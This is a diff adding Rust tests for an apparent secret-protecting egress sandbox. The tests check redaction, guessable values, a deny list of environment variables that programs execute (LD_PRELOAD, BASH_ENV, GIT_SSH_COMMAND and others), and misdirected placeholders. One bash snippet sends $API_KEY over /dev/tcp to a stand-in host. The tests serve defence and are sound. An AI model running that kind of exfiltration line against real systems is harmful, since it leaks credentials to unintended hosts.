@@ -23,7 +23,8 @@ mod support;
 
 use support::{drive, no_driver, same};
 
-/// A TLS server on the host's loopback that repeats each request to its client.
+/// A TLS server on the host's loopback that repeats each request to its client. For `/cut/TEXT` it
+/// sends the text, and closes without `close_notify`; for `/coded` it sends a compressed body.
 struct TlsServer {
     port: u16,
     requests: Arc<Mutex<Vec<String>>>,
@@ -63,13 +64,19 @@ fn tls_server(world: &World) -> (TlsServer, String) {
                 question.push(byte[0]);
             }
             let question = String::from_utf8_lossy(&question).into_owned();
-            let length = question.len();
+            let path = question.split(' ').nth(1).unwrap_or_default().to_owned();
+            let cut = path.strip_prefix("/cut/").map(str::to_owned);
+            let body = cut.as_ref().unwrap_or(&question);
+            let coding = if path == "/coded" { "Content-Encoding: gzip\r\n" } else { "" };
+            let length = body.len();
             let answer = format!(
-                "HTTP/1.1 200 OK\r\nContent-Length: {length}\r\nConnection: close\r\n\r\n{question}"
+                "HTTP/1.1 200 OK\r\n{coding}Content-Length: {length}\r\nConnection: close\r\n\r\n{body}"
             );
-            hearing.lock().unwrap().push(question);
             let _ = stream.write_all(answer.as_bytes());
-            stream.conn.send_close_notify();
+            hearing.lock().unwrap().push(question);
+            if cut.is_none() {
+                stream.conn.send_close_notify();
+            }
             let _ = stream.flush();
         }
     });
@@ -194,6 +201,91 @@ fn a_run_tells_which_secrets_went_with_it(world: &World) {
     assert!(!json.to_string().contains(&value), "{json}");
 }
 
+/// A command cannot choose a response in which the value would not be found.
+fn a_response_that_cannot_be_redacted_is_refused(world: &World) {
+    let (server, authorities) = tls_server(world);
+    let value = value();
+    let bound = format!("service.test:{}", server.port);
+    let (secret, here) = (format!("API_KEY@{bound}"), format!("127.0.0.1:{}", server.port));
+    let options = ["--allow", &bound, "--allow", &here, "--secret", &secret];
+    let (whole, coded) = (bound.clone(), format!("{bound}/coded"));
+    let fetch = ["./probe", "fetch-secured", "API_KEY", &whole, &coded];
+    let outcome = run(world, &authorities, &value, &options, &fetch).finish();
+    outcome.is_blocked();
+    let requests = server.requests.lock().unwrap().clone();
+    for request in &requests {
+        assert!(request.contains(&value) && !request.contains("Range:"), "{request}");
+        assert!(request.contains("Accept-Encoding: identity\r\n"), "{request}");
+    }
+    assert_eq!(requests.len(), 2);
+    assert!(outcome.stdout.contains("HTTP/1.1 502 Bad Gateway"), "{outcome}");
+    assert!(outcome.stdout.contains("EGRESS_UNREADABLE"), "{outcome}");
+    assert!(outcome.stderr.contains("[unreadable]"), "{outcome}");
+}
+
+/// The beginning of the value, from a host that breaks off.
+fn all_of_a_response_arrives(world: &World) {
+    let (server, authorities) = tls_server(world);
+    let value = value();
+    let bound = format!("service.test:{}", server.port);
+    let (secret, here) = (format!("API_KEY@{bound}"), format!("127.0.0.1:{}", server.port));
+    let options = ["--allow", &bound, "--allow", &here, "--secret", &secret];
+    for text in ["nothing", "task", "s", &value[..9], &value[..value.len() - 1]] {
+        let url = format!("{bound}/cut/{text}");
+        let fetch = ["./probe", "fetch-secured", "API_KEY", &url];
+        let outcome = run(world, &authorities, &value, &options, &fetch).finish();
+        outcome.is_blocked();
+        assert!(outcome.stdout.trim_end().ends_with(&format!("\r\n\r\n{text}")), "{outcome}");
+    }
+}
+
+fn a_value_that_can_be_guessed_is_refused(world: &World) {
+    let (_, authorities) = tls_server(world);
+    let options = ["--secret", "API_KEY@service.test", "--allow", "service.test"];
+    for value in ["x", "hunter2", "123456789012345678", "passwordpassword", "aaaaaaaaaaaaaaaaaaaa"]
+    {
+        let outcome = run(world, &authorities, value, &options, &["true"]).finish();
+        outcome.is_refused().ends_with(125);
+        assert!(outcome.stderr.contains("API_KEY can be guessed"), "{outcome}");
+        assert!(value.len() < 7 || !outcome.stderr.contains(value), "{outcome}");
+    }
+    let options = [
+        "--secret",
+        "API_KEY@service.test",
+        "--secret",
+        "OTHER_KEY@*.test",
+        "--allow",
+        "service.test",
+        "--allow",
+        "*.test",
+    ];
+    let (inner, outer) = (value(), format!("{}-and-more", value()));
+    let longer = format!("{inner}-and-more");
+    let refused = run(world, &authorities, &inner, &options, &["true"]).env("OTHER_KEY", longer);
+    let outcome = refused.finish();
+    outcome.is_refused().ends_with(125);
+    assert!(outcome.stderr.contains("contains that of API_KEY"), "{outcome}");
+    for other in [inner.clone(), outer] {
+        run(world, &authorities, &inner, &options, &["true"])
+            .env("OTHER_KEY", other)
+            .finish()
+            .ends_with(0);
+    }
+}
+
+fn a_variable_that_programs_obey_is_no_secret(world: &World) {
+    let (_, authorities) = tls_server(world);
+    for name in ["LD_PRELOAD", "BASH_ENV", "NODE_OPTIONS", "GIT_SSH_COMMAND", "npm_config_registry"]
+    {
+        let secret = format!("{name}@service.test");
+        let options = ["--secret", &secret, "--allow", "service.test"];
+        let call = run(world, &authorities, "", &options, &["true"]).env(name, value());
+        let outcome = call.finish();
+        outcome.is_refused().ends_with(125);
+        assert!(outcome.stderr.contains(&format!("the variable {name}")), "{outcome}");
+    }
+}
+
 fn what_cannot_be_kept_is_refused(world: &World) {
     let (_, authorities) = tls_server(world);
     let value = value();
@@ -229,11 +321,56 @@ fn what_cannot_be_kept_is_refused(world: &World) {
     }
 }
 
+/// A request of plain HTTP to a host, with the placeholder in a header.
+const REQUEST: &str = r#"
+exec 3<>/dev/tcp/"$1"/"$2"
+printf 'GET / HTTP/1.1\r\nHost: %s\r\nX-Key: %s\r\n\r\n' "$1" "$API_KEY" >&3
+cat <&3
+"#;
+
+/// A placeholder that is sent to a host of another secret, or of none, is reported, or not sent.
+fn a_placeholder_that_goes_elsewhere_is_reported(world: &World) {
+    let (_, authorities) = tls_server(world);
+    let value = value();
+    for strict in [false, true] {
+        let server = Server::start("127.0.0.1:0", "greetings").unwrap();
+        let port = server.address.port().to_string();
+        let (other, here) = (format!("other.test:{port}"), format!("127.0.0.1:{port}"));
+        let mut options = vec!["--allow", "service.test", "--allow", &other, "--allow", &here];
+        options.extend(["--secret", "API_KEY@service.test"]);
+        options.extend(strict.then_some("--strict-secrets"));
+        let command = ["bash", "-c", REQUEST, "request", "other.test", &port];
+        let outcome = run(world, &authorities, &value, &options, &command).finish();
+        let text = format!(
+            "the placeholder of the secret API_KEY was {}sent to {other}",
+            if strict { "not " } else { "" }
+        );
+        assert!(outcome.stderr.contains(&text), "{outcome}");
+        assert_eq!(outcome.stdout.contains("greetings"), !strict, "{outcome}");
+        assert_eq!(outcome.stdout.starts_with("HTTP/1.1 403 Forbidden\r\n"), strict, "{outcome}");
+        assert_eq!(outcome.stdout.contains("secret-misdirected"), strict, "{outcome}");
+        options.insert(0, "--json");
+        let json = run(world, &authorities, &value, &options, &command).finish().json();
+        let expected = serde_json::json!([
+            {"secret": "API_KEY", "host": "other.test", "port": server.address.port(), "blocked": strict, "times": 1}
+        ]);
+        assert_eq!(json["network"]["misdirected"], expected, "{json}");
+        assert!(!json.to_string().contains(&value), "{json}");
+    }
+    let outcome = run(world, &authorities, &value, &["--strict-secrets"], &["true"]).finish();
+    outcome.is_refused();
+}
+
 as_root_and_as_user![
     cases,
     a_secret_goes_with_requests_to_its_host_alone,
     a_secret_goes_nowhere_in_the_clear,
     a_secret_is_found_nowhere_inside,
     a_run_tells_which_secrets_went_with_it,
+    a_response_that_cannot_be_redacted_is_refused,
+    all_of_a_response_arrives,
+    a_value_that_can_be_guessed_is_refused,
+    a_variable_that_programs_obey_is_no_secret,
     what_cannot_be_kept_is_refused,
+    a_placeholder_that_goes_elsewhere_is_reported,
 ];
